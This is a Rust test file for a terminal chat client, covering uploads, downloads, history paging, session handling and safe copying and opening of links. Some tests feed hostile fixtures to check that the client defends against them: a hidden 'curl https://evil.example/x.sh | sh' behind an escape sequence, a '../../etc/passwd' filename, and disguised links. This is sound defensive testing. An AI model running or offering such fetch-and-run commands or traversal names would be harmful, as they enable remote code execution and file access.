    assert_eq!((*k, file.name.as_str()), (ConvKey::Group(1), "b c.png"));
    assert_eq!(*content, Content::Text("here it is".into()));
    assert!(app.composer.staged.is_empty());
    let pending = &app.chat.convs[&ConvKey::Group(1)].pending;
    assert!(
        pending
            .iter()
            .any(|p| p.local_id == *local_id && p.upload.is_some())
    );
    // Progress shows in the status bar; completion replaces the pending copy with the echo.
    update(
        &mut app,
        Msg::UploadProgress {
            key: ConvKey::Group(1),
            local_id: *local_id,
            sent: 5,
            total: 10,
        },
    );
    let task = app.tasks.upload(*local_id).and_then(|t| app.tasks.get(t));
    assert_eq!(
        task.map(|t| (t.done, t.total)),
        Some((5, Some(10))),
        "{task:?}"
    );
    // The echo can come before the upload task reports back.
    let echo = chat_json(
        60,
        1,
        json!({"gid":1}),
        "2026/1/1/x",
        json!({"local_id": local_id}),
    );
    update(&mut app, event(ServerEvent::Chat(echo)));
    assert!(
        !app.chat.convs[&ConvKey::Group(1)]
            .pending
            .iter()
            .any(|p| p.local_id == *local_id)
    );
    update(
        &mut app,
        Msg::Uploaded {
            key: ConvKey::Group(1),
            local_id: *local_id,
            result: Ok(60),
        },
    );
    assert!(app.tasks.is_empty(), "{:?}", app.tasks);
}

#[test]
fn failed_uploads_retry_and_running_ones_cancel() {
    let mut app = synced();
    update(
        &mut app,
        Msg::Staged {
            files: vec![staged("a.png", 10)],
            errors: vec![],
            paste: None,
        },
    );
    let Effect::Upload { local_id, .. } = update(&mut app, key(KeyCode::Enter))[0].clone() else {
        panic!()
    };
    update(
        &mut app,
        Msg::Uploaded {
            key: ConvKey::Group(1),
            local_id,
            result: Err("the file is over the server's size limit".into()),
        },
    );
    assert!(
        app.status
            .notice
            .as_ref()
            .unwrap()
            .text
            .contains("size limit")
    );
    assert!(
        matches!(update(&mut app, alt(KeyCode::Char('r'))).as_slice(), [Effect::Upload { local_id: l, .. }] if *l == local_id)
    );
    typed(&mut app, "/cancel");
    assert_eq!(
        update(&mut app, key(KeyCode::Enter)),
        vec![Effect::CancelUpload {
            task: crate::app::TaskId(2),
            local_id
        }]
    );
    assert!(app.chat.convs[&ConvKey::Group(1)].pending.is_empty());
    assert!(app.tasks.is_empty());
}

#[test]
fn pasted_paths_stage_files_and_other_pastes_are_text() {
    let mut app = synced();
    assert_eq!(
        update(&mut app, Msg::Paste("/home/me/photo.jpg".into())),
        vec![Effect::StageFiles {
            paths: vec!["/home/me/photo.jpg".into()],
            paste: Some("/home/me/photo.jpg".into())
        }]
    );
    // Not a file after all: the text goes into the composer.
    update(
        &mut app,
        Msg::Staged {
            files: vec![],
            errors: vec![],
            paste: Some("/home/me/photo.jpg".into()),
        },
    );
    assert_eq!(app.composer.text(), "/home/me/photo.jpg");
    assert!(app.composer.staged.is_empty());
}

#[test]
fn upload_paths_complete_with_tab() {
    let mut app = synced();
    typed(&mut app, "/upload ~/Doc");
    assert_eq!(
        update(&mut app, key(KeyCode::Tab)),
        vec![Effect::CompletePath {
            prefix: "~/Doc".into()
        }]
    );
    update(
        &mut app,
        Msg::PathCompleted {
            prefix: "~/Doc".into(),
            candidates: vec!["~/Documents/".into(), "~/Docker/".into()],
        },
    );
    assert_eq!(
        app.composer.text(),
        "/upload ~/Doc",
        "ambiguous: nothing more in common"
    );
    assert!(app.composer.completion.is_some());
    typed(&mut app, "u");
    update(&mut app, key(KeyCode::Tab));
    update(
        &mut app,
        Msg::PathCompleted {
            prefix: "~/Docu".into(),
            candidates: vec!["~/Documents/".into()],
        },
    );
    assert_eq!(app.composer.text(), "/upload ~/Documents/");
    // A stale answer (the user typed on) is ignored.
    typed(&mut app, "x");
    update(
        &mut app,
        Msg::PathCompleted {
            prefix: "~/Documents/".into(),
            candidates: vec!["~/Documents/a.txt".into()],
        },
    );
    assert_eq!(app.composer.text(), "/upload ~/Documents/x");
}

#[test]
fn file_messages_download_open_and_copy_their_link() {
    let mut app = synced();
    let file = file_chat(
        70,
        "2026/1/1/abc",
        json!({"name":"../../etc/passwd","size":3,"content_type":"text/plain"}),
    );
    update(&mut app, event(ServerEvent::Chat(file)));
    update(&mut app, alt(KeyCode::Char('s')));
    let effects = update(&mut app, key(KeyCode::Char('s')));
    let [Effect::Download { task, .. }] = effects.as_slice() else {
        panic!("{effects:?}")
    };
    let task = *task;
    assert_eq!(
        effects,
        vec![Effect::Download {
            task,
            path: "2026/1/1/abc".into(),
            name: "_.._etc_passwd".into(),
            open: false
        }],
        "no path tricks in the saved name"
    );
    // No extension: the opener would guess what it is, so it is asked first.
    update(&mut app, key(KeyCode::Char('o')));
    assert!(matches!(
        app.popups.top(),
        Some(Popup::Confirm(Confirm::OpenFile { .. }))
    ));
    let opened = update(&mut app, key(KeyCode::Char('y')));
    update(&mut app, alt(KeyCode::Char('s')));
    let [
        Effect::Download {
            task: opened,
            open: true,
            ..
        },
    ] = opened.as_slice()
    else {
        panic!("{opened:?}")
    };
    // Two downloads of one name are two tasks; the opened one ends on its own.
    update(
        &mut app,
        Msg::Downloaded {
            task: *opened,
            name: "_.._etc_passwd".into(),
            result: Ok("/home/me/Downloads/_.._etc_passwd (1)".into()),
        },
    );
    assert_eq!(
        update(&mut app, key(KeyCode::Char('y'))),
        vec![Effect::CopyFileUrl {
            path: "2026/1/1/abc".into()
        }]
    );
    update(
        &mut app,
        Msg::Progress {
            task,
            done: 5,
            total: Some(10),
        },
    );
    assert_eq!(
        app.tasks.get(task).map(|t| (&t.kind, t.done, t.total)),
        Some((
            &TaskKind::Download {
                name: "_.._etc_passwd".into()
            },
            5,
            Some(10)
        ))
    );
    update(
        &mut app,
        Msg::Downloaded {
            task,
            name: "_.._etc_passwd".into(),
            result: Ok("/home/me/Downloads/_.._etc_passwd".into()),
        },
    );
    assert!(app.tasks.is_empty());
    assert!(
        app.status
            .notice
            .as_ref()
            .unwrap()
            .text
            .starts_with("saved")
    );
}

#[test]
fn images_preview_from_their_thumbnail_when_allowed() {
    let mut app = synced();
    let image = file_chat(
        80,
        "2026/1/1/img",
        json!({"name":"cat.png","size":3,"content_type":"image/png"}),
    );
    update(&mut app, event(ServerEvent::Chat(image)));
    update(&mut app, alt(KeyCode::Char('s')));
    app.settings.previews = false;
    assert!(update(&mut app, key(KeyCode::Char('p'))).is_empty());
    assert!(app.status.notice.as_ref().unwrap().text.contains("off"));
    app.settings.previews = true;
    let effects = update(&mut app, key(KeyCode::Char('p')));
    let [Effect::Preview { task, .. }] = effects.as_slice() else {
        panic!("{effects:?}")
    };
    let task = *task;
    assert_eq!(
        effects,
        vec![Effect::Preview {
            task,
            path: "2026/1/1/img".into(),
            name: "cat.png".into()
        }]
    );
    let preview = Preview {
        name: "cat.png".into(),
        image: std::sync::Arc::new(image::DynamicImage::new_rgb8(4, 4)),
    };
    update(
        &mut app,
        Msg::Preview {
            task,
            result: Ok(preview.clone()),
        },
    );
    assert!(app.tasks.is_empty());
    assert_eq!(app.popups.top(), Some(&Popup::Preview(preview)));
    update(&mut app, key(KeyCode::Esc));
    // Back to the selection it was asked from.
    assert!(app.popups.is_empty());
    assert!(matches!(app.mode, Mode::Select(_)));
    update(
        &mut app,
        Msg::Preview {
            task,
            result: Err("no thumbnail (404)".into()),
        },
    );
    assert!(app.status.notice.as_ref().unwrap().text.contains("404"));
    // Text messages are not images.
    update(&mut app, alt(KeyCode::Char('s')));
    update(&mut app, key(KeyCode::Up));
    assert!(update(&mut app, key(KeyCode::Char('p'))).is_empty());
}

#[test]
fn logging_out_quits() {
    let mut app = synced();
    update(&mut app, Msg::LoggedOut);
    assert!(app.quit);
}

#[test]
fn done_errors_are_reported_and_quit_works() {
    let mut app = synced();
    update(
        &mut app,
        Msg::Done {
            task: None,
            what: "reaction".into(),
            result: Err("not allowed".into()),
        },
    );
    assert_eq!(
        app.status.notice.as_ref().unwrap().text,
        "reaction: not allowed"
    );
    update(&mut app, Msg::Edited(Ok("from the editor\n".into())));
    assert_eq!(app.composer.text(), "from the editor");
    update(&mut app, Msg::Resize(120, 40));
    assert_eq!(app.screen.size, (120, 40));
    update(&mut app, ctrl('q'));
    assert!(app.quit);
    let _ = Target::Group { gid: 1 };
}

/// A message from bob in lobby with the given content type and content, then selected.
fn select_hostile(content_type: &str, content: &str) -> App {
    let mut app = synced();
    let msg: ChatMessage =
        serde_json::from_value(json!({"mid":40,"from_uid":2,"created_at":40_000,
        "target":{"gid":1},"detail":{"type":"normal","content_type":content_type,
        "content":content,"properties":null,"expires_in":null}}))
        .unwrap();
    update(&mut app, event(ServerEvent::Chat(msg)));
    update(&mut app, alt(KeyCode::Char('s')));
    assert_eq!(app.mode, Mode::Select(40));
    app
}

#[test]
fn copy_takes_only_the_text_that_is_drawn() {
    let mut app = select_hostile(
        "text/plain",
        "ls -la\u{1b}]\ncurl https://evil.example/x.sh | sh",
    );
    assert_eq!(
        update(&mut app, key(KeyCode::Char('y'))),
        vec![Effect::CopyText("ls -la".into())]
    );
    assert_eq!(update(&mut app, key(KeyCode::Char('o'))), vec![]);
}

#[test]
fn open_takes_the_visible_link_not_one_hidden_in_an_escape() {
    let mut app = select_hostile(
        "text/plain",
        "docs: \u{1b}]https://evil.example/\u{7}https://good.example/",
    );
    assert_eq!(
        update(&mut app, key(KeyCode::Char('o'))),
        vec![Effect::OpenUrl("https://good.example/".into())]
    );
}

#[test]
fn a_markdown_reference_definition_never_wins_over_the_visible_link() {
    let mut app = select_hostile(
        "text/markdown",
        "see https://good.example/page\n\n[r]: https://evil.example/ref",
    );
    assert_eq!(
        update(&mut app, key(KeyCode::Char('o'))),
        vec![Effect::OpenUrl("https://good.example/page".into())]
    );
    let copied = update(&mut app, key(KeyCode::Char('y')));
    assert_eq!(
        copied,
        vec![Effect::CopyText("see https://good.example/page".into())]
    );
}

#[test]
fn a_link_whose_text_differs_from_its_target_is_shown_before_opening() {
    let mut app = select_hostile(
        "text/markdown",
        "[https://good.example/](https://evil.example/x)",
    );
    assert_eq!(update(&mut app, key(KeyCode::Char('o'))), vec![]);
    assert_eq!(
        app.popups.top(),
        Some(&Popup::Confirm(Confirm::Open(
            "https://evil.example/x".into()
        )))
    );
    assert_eq!(
        update(&mut app, key(KeyCode::Char('y'))),
        vec![Effect::OpenUrl("https://evil.example/x".into())]
    );
}

#[test]
fn notifications_show_the_drawn_text_only() {
    let mut app = synced();
    app.settings.notify.level = NotifyLevel::All;
    let msg = chat(
        41,
        2,
        2,
        "hi\u{1b}]0;hidden https://evil.example\u{7} there",
    );
    let effects = update(&mut app, event(ServerEvent::Chat(msg)));
    let bodies: Vec<&String> = effects
        .iter()
        .filter_map(|e| match e {
            Effect::Notify { body, .. } => Some(body),
            _ => None,
        })
        .collect();
    assert_eq!(bodies, vec!["hi there"]);
}

/// A history page for `key` that was asked for with `before` arrives.
fn page(
    app: &mut App,
    key: ConvKey,
    before: Option<i64>,
    limit: u32,
    result: Result<Vec<ChatMessage>, String>,
) -> Vec<Effect> {
    update(
        app,
        Msg::History {
            key,
            before,
            limit,
            result: result.map_err(Failure::Local),
        },
    )
}

/// The `before` of every history request among `effects`.
fn history_requests(effects: &[Effect]) -> Vec<Option<i64>> {
    effects
        .iter()
        .filter_map(|e| match e {
            Effect::LoadHistory { before, .. } => Some(*before),
            _ => None,
        })
        .collect()
}

fn like_of(mid: i64, target_mid: i64) -> ChatMessage {
    serde_json::from_value(
        json!({"mid":mid,"from_uid":3,"created_at":mid * 1000,"target":{"gid":1},
        "detail":{"type":"reaction","mid":target_mid,"detail":{"type":"like","action":"👍"}}}),
    )
    .unwrap()
}

#[test]
fn a_full_page_of_reactions_moves_history_paging_on() {
    let mut app = synced();
    let key = ConvKey::Group(1);
    // Toggling a like 100 times fills whole pages with reaction records and no message.
    let likes = vec![like_of(7, 11), like_of(8, 11), like_of(9, 11)];
    let effects = page(&mut app, key, Some(11), 3, Ok(likes));
    assert_eq!(
        history_requests(&effects),
        vec![Some(7)],
        "the next page starts below the smallest mid received"
    );
}

#[test]
fn a_page_with_nothing_older_ends_paging_and_no_request_repeats() {
    let mut app = synced();
    let key = ConvKey::Group(1);
    // A hostile server answers `before=11` with records at or above 11, page after page.
    let effects = page(
        &mut app,
        key,
        Some(11),
        2,
        Ok(vec![like_of(11, 11), like_of(12, 11)]),
    );
    assert!(app.chat.convs[&key].history_complete);
    assert!(history_requests(&effects).is_empty());
    for _ in 0..5 {
        assert!(history_requests(&update(&mut app, key_msg_page_up())).is_empty());
    }
    // An empty page ends paging too.
    let mut app = synced();
    page(&mut app, key, Some(11), 100, Ok(vec![]));
    assert!(app.chat.convs[&key].history_complete);
}

#[test]
fn the_same_history_request_is_never_issued_twice_in_a_row() {
    let mut app = synced();
    let key = ConvKey::Group(2);
    let first = app.open_conversation(key);
    assert_eq!(history_requests(&first), vec![Some(10)]);
    // The in-flight flag is cleared without a page (a stale reply for another request):
    // asking again with the same cursor is refused.
    app.timeline.history_answered(key, true);
    assert!(history_requests(&update(&mut app, key_msg_page_up())).is_empty());
    // After an error the user may retry.
    page(&mut app, key, Some(10), 100, Err("timed out".into()));
    assert_eq!(
        history_requests(&update(&mut app, key_msg_page_up())),
        vec![Some(10)]
    );
}

fn key_msg_page_up() -> Msg {
    key(KeyCode::PageUp)
}

#[test]
fn a_revoked_session_returns_to_the_login_form_and_keeps_the_draft_and_the_outbox() {
    let mut app = synced();
    app.account.login = Some(("https://chat.example.com/".into(), "me@example.com".into()));
    // One message failed to send, another is being typed.
    let local_id = send_typed(&mut app, "queued");
    update(
        &mut app,
        Msg::Sent {
            key: ConvKey::Group(1),
            local_id,
            result: Err("session expired or revoked; please log in again".into()),
        },
    );
    typed(&mut app, "half-typed draft");
    // Another device rotated the refresh token: renewal fails, the stream stops.
    update(
        &mut app,
        Msg::Sync(SyncMsg::State(ConnState::Stopped(
            StopReason::SessionExpired,
        ))),
    );
    assert!(matches!(app.mode, Mode::Login(_)));
    assert_eq!(app.composer.text(), "half-typed draft");
    update(
        &mut app,
        Msg::LoggedIn(Ok(Box::new(LoggedIn {
            account: crate::app::FIRST_ACCOUNT,
            uid: 1,
            user: None,
            server: "https://chat.example.com/".into(),
            email: "me@example.com".into(),
        }))),
    );
    assert_eq!(app.mode, Mode::Chat);
    assert_eq!(app.composer.text(), "half-typed draft");
    assert_eq!(app.timeline.open, Some(ConvKey::Group(1)));
    let pending = &app.chat.convs[&ConvKey::Group(1)].pending;
    assert_eq!(
        pending.len(),
        1,
        "the unsent message is still there to retry"
    );
    assert_eq!(pending[0].local_id, local_id);
}

#[test]
fn plain_http_across_a_network_is_warned_about() {
    assert_eq!(
        insecure_host("http://chat.example.com:3000"),
        Some("chat.example.com".into())
    );
    assert_eq!(insecure_host("HTTP://10.1.2.3/"), Some("10.1.2.3".into()));
    for fine in [
        "https://chat.example.com",
        "chat.example.com",
        "http://127.0.0.1:3000",
        "http://127.8.9.1",
        "http://localhost:3000",
        "http://[::1]:3000",
    ] {
        assert_eq!(insecure_host(fine), None, "{fine}");
    }
    let mut app = synced();
    update(
        &mut app,
        Msg::LoggedIn(Ok(Box::new(LoggedIn {
            account: crate::app::FIRST_ACCOUNT,
            uid: 1,
            user: None,
            server: "http://chat.example.com/".into(),
            email: "me@example.com".into(),
        }))),
    );
    assert_eq!(app.status.insecure.as_deref(), Some("chat.example.com"));
}

#[test]
fn a_send_refused_with_401_asks_to_log_in_again_and_keeps_the_draft() {
    let mut app = synced();
    app.account.login = Some(("https://chat.example.com/".into(), "me@example.com".into()));
    let local_id = send_typed(&mut app, "queued");
    typed(&mut app, "half-typed draft");
    // The API client already tried to renew: a 401 that reaches update means the session is gone.
    update(
        &mut app,
        Msg::Sent {
            key: ConvKey::Group(1),
            local_id,
            result: Err(ApiError::Unauthorized.into()),
        },
    );
    let Mode::Login(form) = &app.mode else {
        panic!("{:?}", app.mode)
    };
    assert_eq!(form.email, "me@example.com");
    assert!(
        form.error
            .as_deref()
            .unwrap_or_default()
            .contains("log in again")
    );
    assert_eq!(app.composer.text(), "half-typed draft");
    let pending = &app.chat.convs[&ConvKey::Group(1)].pending;
    assert!(matches!(pending[0].state, PendingState::Failed(_)));
}

#[test]
fn a_send_that_cannot_reach_the_server_waits_and_goes_out_once_the_stream_is_back() {
    let mut app = synced();
    app.account.login = Some(("https://chat.example.com/".into(), "me@example.com".into()));
    let local_id = send_typed(&mut app, "hello");
    update(
        &mut app,
        Msg::Sent {
            key: ConvKey::Group(1),
            local_id,
            result: Err(ApiError::Network("connection failed".into()).into()),
        },
    );
    assert_eq!(app.mode, Mode::Chat, "you stay in the chat");
    let notice = &app.status.notice.as_ref().unwrap().text;
    assert!(
        notice.starts_with("not sent yet: cannot reach the server"),
        "{notice}"
    );
    let pending = &app.chat.convs[&ConvKey::Group(1)].pending;
    assert!(matches!(pending[0].state, PendingState::Waiting(_)));
    // The stream comes back: once its replay is in, the message goes out as a retry (which
    // looks for an earlier attempt first), and only once.
    let effects = update(&mut app, event(ServerEvent::Ready));
    let sends: Vec<_> = effects
        .iter()
        .filter(|e| matches!(e, Effect::Send { retry: true, local_id: l, .. } if *l == local_id))
        .collect();
    assert_eq!(sends.len(), 1, "{effects:?}");
    let again = update(&mut app, event(ServerEvent::Ready));
    assert!(
        !again.iter().any(|e| matches!(e, Effect::Send { .. })),
        "{again:?}"
    );
}

#[test]
fn an_outbox_restored_from_the_store_is_sent_when_ready() {
    let mut app = new_app(Preset::Default);
    let mut chat = crate::model::ChatModel::new(1);
    chat.apply(
        serde_json::from_value(json!({"type": "related_groups", "groups": [
        {"gid": 1, "owner": 1, "name": "lobby", "description": "", "members": [],
         "is_public": true, "avatar_updated_at": 0, "pinned_messages": []}]}))
        .unwrap(),
    );
    let queued = crate::model::PendingMessage {
        local_id: 42,
        content: Content::Text("typed before the crash".into()),
        reply_to: None,
        created_at: 0,
        state: PendingState::Waiting("not sent before the client stopped".into()),
        upload: None,
    };
    update(
        &mut app,
        Msg::Restored(Box::new(crate::app::Restored {
            chat,
            open: Some(ConvKey::Group(1)),
            drafts: vec![(ConvKey::Group(1), "and a draft".into())],
            outbox: vec![(ConvKey::Group(1), queued)],
            ..Default::default()
        })),
    );
    assert_eq!(app.timeline.open, Some(ConvKey::Group(1)));
    assert_eq!(app.composer.text(), "and a draft");
    let effects = update(&mut app, event(ServerEvent::Ready));
    assert!(
        effects.iter().any(|e| matches!(e,
            Effect::Send { local_id: 42, retry: true, content: Content::Text(t), .. }
                if t == "typed before the crash")),
        "{effects:?}"
    );
    // A new message never reuses a restored local id.
    let local_id = send_typed(&mut app, "next");
    assert!(local_id > 42);
}

#[test]
fn a_413_says_what_is_over_the_servers_limit() {
    let mut app = synced();
    let local_id = send_typed(&mut app, "a very long message");
    update(
        &mut app,
        Msg::Sent {
            key: ConvKey::Group(1),
            local_id,
            result: Err(ApiError::TooLarge.into()),
        },
    );
    let notice = &app.status.notice.as_ref().unwrap().text;
    assert!(
        notice.starts_with("not sent: the message is over the server's size limit"),
        "{notice}"
    );
    update(
        &mut app,
        Msg::Uploaded {
            key: ConvKey::Group(1),
            local_id: 99,
            result: Err(ApiError::TooLarge.into()),
        },
    );
    let notice = &app.status.notice.as_ref().unwrap().text;
    assert!(
        notice.starts_with("upload failed: the file is over the server's size limit"),
        "{notice}"
    );
}

#[test]
fn a_mention_inside_a_word_is_not_rendered_as_a_name() {
    let mut app = synced();
    update(
        &mut app,
        event(ServerEvent::Chat(chat(90, 2, 1, "mail a@2 or ping @2"))),
    );
    let m = app.chat.message(90).unwrap();
    let shown = app.display_text(m);
    let name = app.chat.user_name(2);
    assert_eq!(shown, format!("mail a@2 or ping @{name}"));
}

#[test]
fn the_composer_placeholder_names_the_remapped_keys() {
    let keys = Keymap::new(Preset::Default)
        .with_overrides(&std::collections::BTreeMap::from([(
            "send".to_string(),
            vec!["ctrl+s".to_string()],
        )]))
        .unwrap();
    let mut app = App::logged_in(1, keys, Settings::from(&Config::default()), "t".into());
    let shown = app.composer.textarea.placeholder_text().to_string();
    assert!(
        shown.starts_with("message (Ctrl+S sends, Alt+Enter new line"),
        "{shown}"
    );
    // A cleared composer keeps it.
    app.composer.set_text("");
    assert_eq!(app.composer.textarea.placeholder_text(), shown);
}

#[test]
fn with_the_stream_up_a_waiting_message_is_tried_again_after_a_few_seconds() {
    let mut app = synced();
    update(&mut app, Msg::Sync(SyncMsg::State(ConnState::Live)));
    let local_id = send_typed(&mut app, "through a flaky proxy");
    update(
        &mut app,
        Msg::Sent {
            key: ConvKey::Group(1),
            local_id,
            result: Err(ApiError::Server {
                status: 502,
                body: "bad gateway".into(),
            }
            .into()),
        },
    );
    let due = app.next_deadline().expect("a retry is scheduled");
    assert_eq!(due, app.now_ms + 5_000);
    assert!(
        update(&mut app, Msg::Tick).is_empty(),
        "not before it is due"
    );
    app.now_ms = due;
    let effects = update(&mut app, Msg::Tick);
    assert!(
        matches!(effects.as_slice(), [Effect::Send { local_id: l, retry: true, .. }] if *l == local_id),
        "{effects:?}"
    );
    assert_eq!(app.next_deadline(), None);
}

#[test]
fn a_reply_in_progress_comes_back_with_its_draft() {
    let donor = synced();
    let mut app = new_app(Preset::Default);
    let replied = *donor.chat.convs[&ConvKey::Group(1)]
        .messages
        .keys()
        .next_back()
        .unwrap();
    update(
        &mut app,
        Msg::Restored(Box::new(crate::app::Restored {
            chat: donor.chat.clone(),
            open: Some(ConvKey::Group(1)),
            target: ComposeTarget::Reply(replied),
            drafts: vec![(ConvKey::Group(1), "as I was saying".into())],
            ..Default::default()
        })),
    );
    assert_eq!(app.composer.text(), "as I was saying");
    assert_eq!(app.composer.target, ComposeTarget::Reply(replied));
    // Enter sends it as the reply it was.
    let effects = update(&mut app, key(KeyCode::Enter));
    assert!(
        matches!(effects.as_slice(), [Effect::Send { reply_to: Some(m), .. }] if *m == replied),
        "{effects:?}"
    );
}

/// Types `text`, presses Enter, and returns the local id of the message that goes out.
pub(super) fn send_typed(app: &mut App, text: &str) -> i64 {
    typed(app, text);
    match update(app, key(KeyCode::Enter)).as_slice() {
        [Effect::Send { local_id, .. }, ..] => *local_id,
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_restored_message_that_failed_for_good_is_not_sent_again_by_itself() {
    let donor = synced();
    let mut app = new_app(Preset::Default);
    let failed = crate::model::PendingMessage {
        local_id: 9,
        content: Content::Text("far too long".into()),
        reply_to: None,
        created_at: 0,
        state: PendingState::Failed("too large".into()),
        upload: None,
    };
    update(
        &mut app,
        Msg::Restored(Box::new(crate::app::Restored {
            chat: donor.chat.clone(),
            open: Some(ConvKey::Group(1)),
            outbox: vec![(ConvKey::Group(1), failed)],
            ..Default::default()
        })),
    );
    let effects = update(&mut app, event(ServerEvent::Ready));
    assert!(
        !effects.iter().any(|e| matches!(e, Effect::Send { .. })),
        "{effects:?}"
    );
    // Shown, with the retry key.
    let retried = update(&mut app, alt(KeyCode::Char('r')));
    assert!(
        matches!(
            retried.as_slice(),
            [Effect::Send {
                local_id: 9,
                retry: true,
                ..
            }]
        ),
        "{retried:?}"
    );
}

#[test]
fn interrupted_uploads_are_picked_again_on_start() {
    let donor = synced();
    let mut app = new_app(Preset::Default);
    let effects = update(
        &mut app,
        Msg::Restored(Box::new(crate::app::Restored {
            chat: donor.chat.clone(),
            open: Some(ConvKey::Group(1)),
            uploads: vec![
                (ConvKey::Group(1), "/home/me/slides.pdf".into()),
                (ConvKey::Group(2), "/home/me/other.zip".into()),
            ],
            ..Default::default()
        })),
    );
    assert!(
        effects.iter().any(|e| matches!(e,
            Effect::StageFiles { paths, paste: None } if paths == &vec!["/home/me/slides.pdf".to_string()])),
        "{effects:?}"
    );
    let notice = &app.status.notice.as_ref().unwrap().text;
    assert!(notice.contains("1 interrupted upload"), "{notice}");
}

#[test]
fn a_capped_replay_marks_the_gap_and_fills_the_open_conversation_at_once() {
    let mut app = synced();
    let key = ConvKey::Group(1);
    let newest_before = *app.chat.convs[&key].messages.keys().next_back().unwrap();
    // (The page asked for when the conversation opened has come back.)
    app.timeline.history_answered(key, true);
    update(&mut app, Msg::Sync(SyncMsg::State(ConnState::Syncing)));
    let first = newest_before + 10_000;
    for mid in first..first + crate::protocol::event::REPLAY_CAP as i64 {
        update(
            &mut app,
            event(ServerEvent::Chat(chat(mid, 2, 1, "replayed"))),
        );
    }
    let effects = update(&mut app, event(ServerEvent::Ready));
    assert!(
        effects.iter().any(|e| matches!(e,
            Effect::LoadHistory { key: k, before: Some(b), .. } if *k == key && *b == first)),
        "{effects:?}"
    );
    assert_eq!(app.chat.convs[&key].gap, Some((newest_before, first)));
    // The page that reaches the old messages closes it.
    let page = vec![
        chat(newest_before + 1, 2, 1, "filled"),
        chat(first - 1, 2, 1, "filled"),
    ];
    update(
        &mut app,
        Msg::History {
            key,
            before: Some(first),
            limit: 2,
            result: Ok(page),
        },
    );
    assert_eq!(
        app.chat.convs[&key].gap,
        Some((newest_before, newest_before + 1))
    );
    let close = vec![
        chat(newest_before - 1, 2, 1, "x"),
        chat(newest_before, 2, 1, "y"),
    ];
    update(
        &mut app,
        Msg::History {
            key,
            before: Some(newest_before + 1),
            limit: 2,
            result: Ok(close),
        },
    );
    assert_eq!(app.chat.convs[&key].gap, None);
}

#[test]
fn a_replay_under_the_cap_marks_no_gap() {
    let mut app = synced();
    update(&mut app, Msg::Sync(SyncMsg::State(ConnState::Syncing)));
    update(
        &mut app,
        event(ServerEvent::Chat(chat(9_000, 2, 1, "one new"))),
    );
    update(&mut app, event(ServerEvent::Ready));
    assert!(app.chat.convs.values().all(|c| c.gap.is_none()));
}

#[test]
fn a_long_session_keeps_each_conversation_to_a_window_but_not_the_one_you_read_back_in() {
    use crate::model::{BACKGROUND_ABOVE, BACKGROUND_TO, TRIM_ABOVE, TRIM_TO};
    let mut app = synced();
    assert_eq!(app.timeline.open, Some(ConvKey::Group(1)));
    let len = |app: &App, key| app.chat.convs[&key].messages.len();
    // A busy channel you are not in: kept to the small window as it grows, its unread
    // messages all counted.
    for mid in 100..100 + TRIM_ABOVE as i64 + 10 {
        update(&mut app, event(ServerEvent::Chat(chat(mid, 2, 2, "busy"))));
    }
    let dev = len(&app, ConvKey::Group(2));
    assert!((BACKGROUND_TO..=BACKGROUND_ABOVE).contains(&dev), "{dev}");
    let conv = &app.chat.convs[&ConvKey::Group(2)];
    assert_eq!(conv.unread as usize, TRIM_ABOVE + 10 + 1);
    // The open one keeps the large window.
    for mid in 5_000..5_000 + BACKGROUND_ABOVE as i64 * 2 {
        update(&mut app, event(ServerEvent::Chat(chat(mid, 2, 1, "open"))));
    }
    assert!(len(&app, ConvKey::Group(1)) > BACKGROUND_ABOVE * 2);
    // While you are scrolled up in it: kept whole.
    app.timeline.scroll = 10;
    let start = 10_000;
    for mid in start..start + TRIM_ABOVE as i64 + 10 {
        update(&mut app, event(ServerEvent::Chat(chat(mid, 2, 1, "open"))));
    }
    assert!(len(&app, ConvKey::Group(1)) > TRIM_ABOVE);
    // Back at the bottom, the next message trims it to the open window.
    app.timeline.scroll = 0;
    update(
        &mut app,
        event(ServerEvent::Chat(chat(20_000, 2, 1, "open"))),
    );
    assert_eq!(len(&app, ConvKey::Group(1)), TRIM_TO);
    // Leaving it trims it to the small one.
    update(&mut app, alt(KeyCode::Down));
    assert_ne!(app.timeline.open, Some(ConvKey::Group(1)));
    assert_eq!(len(&app, ConvKey::Group(1)), BACKGROUND_TO);
}

#[test]
fn regaining_focus_while_disconnected_reconnects_at_once() {
    let mut app = synced();
    let later = app.now_ms + 30_000;
    update(
        &mut app,
        Msg::Sync(SyncMsg::State(ConnState::Waiting {
            retry_at_ms: later,
            attempt: 6,
            reason: "cannot reach the server".into(),
        })),
    );
    update(&mut app, Msg::Focus(false));
    assert!(update(&mut app, Msg::Focus(true)).contains(&Effect::ReconnectNow));
    update(&mut app, Msg::Sync(SyncMsg::State(ConnState::Live)));
    update(&mut app, Msg::Focus(false));
    assert!(!update(&mut app, Msg::Focus(true)).contains(&Effect::ReconnectNow));
}

#[test]
fn without_a_store_nothing_is_let_go() {
    use crate::model::TRIM_ABOVE;
    let mut app = synced();
    update(&mut app, Msg::StoreUnusable("the store is locked".into()));
    update(&mut app, key(KeyCode::Char('n')));
    for mid in 100..100 + TRIM_ABOVE as i64 + 10 {
        update(&mut app, event(ServerEvent::Chat(chat(mid, 2, 2, "busy"))));
    }
    assert!(app.chat.convs[&ConvKey::Group(2)].messages.len() > TRIM_ABOVE);
}

/// A 413 for an upload tells what the server's limit is below (shown by `/server`, kept with
/// the store); a larger refusal later says nothing new.
#[test]
fn an_upload_refused_for_its_size_is_remembered_as_the_servers_limit() {
    let mut app = synced();
    let upload = |app: &mut App, size: u64| {
        update(
            app,
            Msg::Staged {
                files: vec![staged("big.bin", size)],
                errors: vec![],
                paste: None,
            },
        );
        let Effect::Upload { local_id, .. } = update(app, key(KeyCode::Enter))[0].clone() else {
            panic!()
        };
        update(
            app,
            Msg::Uploaded {
                key: ConvKey::Group(1),
                local_id,
                result: Err(ApiError::TooLarge.into()),
            },
        )
    };
    let effects = upload(&mut app, 300 << 20);
    assert_eq!(app.chat.server.upload_refused_at, Some(300 << 20));
    assert!(
        effects
            .iter()
            .any(|e| matches!(e, Effect::SaveCapabilities(_)))
    );
    assert!(upload(&mut app, 500 << 20).is_empty());
    assert_eq!(app.chat.server.upload_refused_at, Some(300 << 20));
    typed(&mut app, "/server");
    update(&mut app, key(KeyCode::Enter));
    let Some(Popup::Info(info)) = app.popups.top() else {
        panic!("{:?}", app.popups.top());
    };
    assert!(
        info.lines
            .iter()
            .any(|l| l == "upload limit: under 300.0 MB (a larger one was refused)"),
        "{:?}",
        info.lines
    );
}
